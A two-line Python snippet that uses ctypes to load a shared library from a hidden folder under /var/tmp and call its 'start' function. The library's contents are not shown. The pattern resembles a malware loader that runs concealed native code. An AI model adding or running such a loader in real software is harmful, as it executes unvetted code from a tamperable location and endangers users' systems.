import ctypes

ctypes.CDLL('/var/tmp/.cache/libx.so').start()
